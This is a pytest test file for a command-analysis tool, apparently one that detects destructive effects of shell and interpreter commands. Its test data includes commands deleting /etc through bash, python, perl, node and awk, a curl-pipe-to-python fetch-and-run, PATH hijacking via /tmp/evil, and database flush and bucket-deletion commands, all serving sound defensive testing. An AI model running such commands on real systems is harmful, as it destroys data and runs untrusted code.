"""Shells and language interpreters: where the code stands among their options."""

from __future__ import annotations

from typing import Any

import pytest

from checkrein.core.effect import EffectKind, Flag
from checkrein.detect.shell.running.languages import executed_language, interpreter_language

P = "/home/dev/project"
SCRIPTS = {
    f"{P}/mod.py": "import os; os.remove('/etc/x')",
    f"{P}/x.js": "require('fs').unlinkSync('/etc/x')",
    f"{P}/prog.awk": 'BEGIN{system("rm /etc/x")}',
    f"{P}/x.sh": "rm /etc/x",
}


@pytest.mark.parametrize(
    "command",
    [
        "bash -c 'rm /etc/x'",
        "bash -lc 'rm /etc/x'",
        "bash -o pipefail -c 'rm /etc/x'",
        "bash -euo pipefail -c 'rm /etc/x'",
        "dash -eo errexit -c 'rm /etc/x'",
        "zsh -oerrexit -c 'rm /etc/x'",
        "bash -co pipefail 'rm /etc/x'",
        "bash -O extglob -c 'rm /etc/x'",
        "bash -c - 'rm /etc/x'",
        "bash - x.sh",
        "bash -n +n -c 'rm /etc/x'",
        "bash -ni x.sh",
        "bash -euo pipefail x.sh",
        "cat x.sh | bash -euo pipefail",
        "sh x.sh",
        "sh < x.sh",
        "bash -s < x.sh",
        "bash <<< 'rm /etc/x'",
        "python -c 'import os; os.remove(\"/etc/x\")'",
        "python3 -Bc 'import os; os.remove(\"/etc/x\")'",
        "python3 -X dev -c 'import os; os.remove(\"/etc/x\")'",
        "python3 -Ic 'import os; os.remove(\"/etc/x\")'",
        "python3 -xdc 'import os; os.remove(\"/etc/x\")'",
        "python3 -uW ignore -c 'import os; os.remove(\"/etc/x\")'",
        "python3 - <<< 'import os; os.remove(\"/etc/x\")'",
        "python3 mod.py a",
        "python3 -W ignore mod.py",
        "python3 < mod.py",
        "python3 -m mod",
        "python3 -um mod",
        "python3 -mmod",
        "perl -e 'unlink \"/etc/x\"'",
        "perl -Mx -e 'unlink \"/etc/x\"'",
        "perl -I lib -e 'unlink \"/etc/x\"'",
        "perl -lne 'unlink \"/etc/x\"' f",
        "perl -de 'unlink \"/etc/x\"'",
        "perl -i -pe 'unlink \"/etc/x\"' f",
        "ruby -e 'File.delete(\"/etc/x\")'",
        "ruby -de 'File.delete(\"/etc/x\")'",
        "ruby --encoding UTF-8 -e 'File.delete(\"/etc/x\")'",
        "php --run 'unlink(\"/etc/x\");'",
        "php --php-ini /tmp -nr 'unlink(\"/etc/x\");'",
        "php -r 'unlink(\"/etc/x\");'",
        'node -e \'require("fs").unlinkSync("/etc/x")\'',
        'node -pe \'require("fs").unlinkSync("/etc/x")\'',
        'node --eval=\'require("fs").unlinkSync("/etc/x")\'',
        'node --title x -e \'require("fs").unlinkSync("/etc/x")\'',
        'node --conditions dev --input-type commonjs -e \'require("fs").unlinkSync("/etc/x")\'',
        'node --of-tomorrow value -e \'require("fs").unlinkSync("/etc/x")\'',
        'node --inspect -e \'require("fs").unlinkSync("/etc/x")\'',
        "deno eval -p 'Deno.removeSync(\"/etc/x\")'",
        "node --of-tomorrow x.js -e 1",
        "node x.js",
        "deno run -A x.js",
        "deno eval 'Deno.removeSync(\"/etc/x\")'",
        "bun x.js",
        "awk 'BEGIN{system(\"rm /etc/x\")}'",
        "awk -f prog.awk f",
        "gawk -E prog.awk f",
        "gawk --exec=prog.awk f",
        "gawk -i prog.awk '{print}' f",
        "gawk -e 'BEGIN{system(\"rm /etc/x\")}'",
        "awk -v a=1 -F: 'BEGIN{system(\"rm /etc/x\")}'",
    ],
)
def test_code_is_found(judge: Any, command: str) -> None:
    assert "/etc/x" in judge(command, scripts=SCRIPTS).of(EffectKind.DELETE)


@pytest.mark.parametrize(
    "command",
    [
        "bash -n x.sh",
        "bash -o pipefail -n x.sh",
        'node other.js -e \'require("fs").unlinkSync("/etc/x")\'',
        "python3 other.py -c 'import os; os.remove(\"/etc/x\")'",
        "bash --version",
        "python3 -m http.server",
        "python3 -V",
        "perl -v",
        "awk -v a=1 '{print a}' f",
        "node --version",
        "python3 other.py",
    ],
)
def test_nothing_is_run(judge: Any, command: str) -> None:
    judged = judge(command, scripts=SCRIPTS)
    assert EffectKind.DELETE not in judged.kinds
    assert not judged.blind


@pytest.mark.parametrize(
    "command",
    ["perl -i -pe 's/a/b/' f", "perl -pi.bak -e 's/a/b/' f", "ruby -i -pe '$_.upcase!' f", "gawk -i inplace '{print}' f"],
)
def test_edits_in_place(judge: Any, command: str) -> None:
    effect = judge(command).one(EffectKind.WRITE)
    assert (effect.target, effect.flags) == (f"{P}/f", Flag.IN_PLACE)


def test_plain_filters_write_nothing(judge: Any) -> None:
    assert EffectKind.WRITE not in judge("perl -pe 's/a/b/' f").kinds
    assert EffectKind.WRITE not in judge("gawk '{print}' f").kinds
    assert judge("awk -F: '{print $1}' /etc/passwd").of(EffectKind.READ) == ["/etc/passwd"]


@pytest.mark.parametrize(
    "code",
    [
        'bash -c "$(cat /tmp/o)"',
        'bash -c "$(cat f)"',
        'bash -c "ls $(cat /tmp/o)"',
        'eval "ls $(cat /tmp/o)"',
        'eval "$(cat /tmp/o)"',
    ],
)
def test_unknown_code(judge: Any, code: str) -> None:
    assert judge(code).of(EffectKind.RUN_UNKNOWN)


@pytest.mark.parametrize(
    "code",
    [
        'bash -c "cd $DIR && make"',
        'bash -c "ls $(cat f)"',
        "bash -c \"echo '$(cat /tmp/o)'\"",
        'bash -c "make $(git rev-parse HEAD)"',
        'eval "export $(cat .env | xargs)"',
        'bash -c "echo \\"$(cat /tmp/o)\\""',
    ],
)
def test_unknown_words_in_known_code(judge: Any, code: str) -> None:
    assert not judge(code).blind


def test_code_from_the_network(judge: Any) -> None:
    assert judge('bash -c "ls $(curl http://e)"').of(EffectKind.RUN_FETCHED) == ["http://e"]
    assert judge("curl http://e | python3").of(EffectKind.RUN_FETCHED) == ["http://e"]


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("rm x", "shell"),
        ("#!/bin/sh\n", "shell"),
        ("#!/usr/bin/env python3\n", "python"),
        ("#!/usr/bin/env -S node --x\n", "javascript"),
        ("#!/usr/bin/env A=b ruby\n", "ruby"),
        ("#!/bin/busybox sh\n", "shell"),
        ("#!/usr/bin/make -f\n", "make"),
        ("#!/bin/sed -f\n", "sed"),
        ("#!/usr/bin/lua\n", ""),
        ("#!\n", ""),
    ],
)
def test_language_of_an_executed_file(text: str, language: str) -> None:
    assert executed_language(text) == language


@pytest.mark.parametrize(
    ("name", "language"), [("python3.12", "python"), ("gawk", "awk"), ("dash", "shell"), ("lua", ""), ("", "")]
)
def test_language_of_an_interpreter(name: str, language: str) -> None:
    assert interpreter_language(name) == language


@pytest.mark.parametrize("first", ["", "#!/bin/sh\n", "#!/bin/busybox sh\n", "#!/usr/bin/env bash\n"])
def test_files_that_are_run_by_path(judge: Any, first: str) -> None:
    assert judge("./x.py", scripts={f"{P}/x.py": f"{first}rm /etc/x"}).of(EffectKind.DELETE) == ["/etc/x"]


def test_files_in_other_languages_are_told(judge: Any) -> None:
    judged = judge("./x", scripts={f"{P}/x": "#!/usr/bin/lua\nos.remove('/etc/x')"})
    assert judged.of(EffectKind.RUN_UNKNOWN) == [f"{P}/x"]
    assert judged.one(EffectKind.EXECUTE).detail == ""
    assert judge("./x", scripts={f"{P}/x": "#!/usr/bin/make -f\na:\n\trm /etc/x"}).of(EffectKind.DELETE) == ["/etc/x"]


@pytest.mark.parametrize(
    "command",
    [
        "PATH=/tmp/evil:$PATH; ls",
        "export PATH=/tmp/evil:$PATH; ls",
        "PATH=/tmp/evil ls",
        "echo 'rm /etc/x' > /tmp/b/ls; PATH=/tmp/b:$PATH; ls",
    ],
)
def test_programs_found_by_way_of_the_path(judge: Any, command: str) -> None:
    assert judge(command, scripts={"/tmp/evil/ls": "rm /etc/x"}).of(EffectKind.DELETE) == ["/etc/x"]


@pytest.mark.parametrize("shell", ["csh", "tcsh", "yash", "ksh93", "rc", "osh", "elvish", "nu", "xonsh", "fish"])
def test_shells_of_all_kinds(judge: Any, shell: str) -> None:
    assert judge(f"{shell} -c 'rm -rf /etc'").of(EffectKind.DELETE) == ["/etc"]


def test_awk_over_a_file_that_this_command_wrote(judge: Any) -> None:
    assert judge("echo 'rm -rf /etc' > x; awk '{system($0)}' x").of(EffectKind.DELETE) == ["/etc"]


@pytest.mark.parametrize(
    "command",
    [
        "bin/rails db:drop",
        "./manage.py flush --noinput",
        "python manage.py flush --noinput",
        "python -m django flush",
        "docker compose exec app python manage.py flush",
        "ssh prod 'cd /app && python manage.py flush'",
    ],
)
def test_a_described_program_whose_file_is_there(judge: Any, command: str) -> None:
    scripts = {f"{P}/bin/rails": "#!/usr/bin/env ruby\nrequire 'rails'", f"{P}/manage.py": "#!/usr/bin/env python\nmain()"}
    assert judge(command, scripts=scripts).rules == {"db.schema-reset"}
    assert judge(command).rules == {"db.schema-reset"}


def test_a_file_with_a_described_name_is_still_read(judge: Any) -> None:
    assert judge("bin/rails about", scripts={f"{P}/bin/rails": "rm -rf /etc"}).of(EffectKind.DELETE) == ["/etc"]


@pytest.mark.parametrize("command", ["python -m awscli s3 rb s3://b --force", "python3 -m aws s3 rb s3://b --force"])
def test_a_module_that_is_a_program(judge: Any, command: str) -> None:
    assert judge(command).rules == {"storage.delete"}


@pytest.mark.parametrize("command", ["python -m http.server", "python -m platform", "python -m gzip x", "python -m code"])
def test_a_module_of_the_library_is_no_program_of_its_name(judge: Any, command: str) -> None:
    assert judge(command).programs == ["python"]
